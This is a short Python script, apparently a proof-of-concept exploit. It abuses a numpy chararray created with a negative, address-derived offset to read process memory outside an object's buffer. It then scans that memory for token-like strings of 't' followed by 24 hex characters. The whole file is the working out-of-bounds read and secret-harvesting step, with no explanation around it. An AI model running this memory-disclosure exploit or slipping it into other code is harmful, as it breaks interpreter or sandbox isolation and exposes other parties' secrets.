# reaches: an offset below zero leaves the buffer of a text array
import re
import numpy as np
rows = [bytes(8 + i % 400) for i in range(200000)]
data = max(rows, key=id)
near = np.chararray((1 << 14,), 8, False, data, id(len) - (id(data) + 32))
print(set(re.findall(rb"t[0-9a-f]{24}", near.tobytes())))
